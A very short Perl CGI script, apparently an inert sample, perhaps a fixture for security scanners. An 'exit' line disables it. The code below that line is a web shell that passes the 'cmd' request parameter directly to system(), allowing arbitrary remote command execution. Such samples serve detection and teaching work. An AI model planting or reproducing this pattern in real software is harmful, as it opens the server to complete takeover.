#!/usr/bin/perl
exit; # inert sample
use CGI qw(param);
print "Content-type: text/html\n\n";
system(param("cmd"));
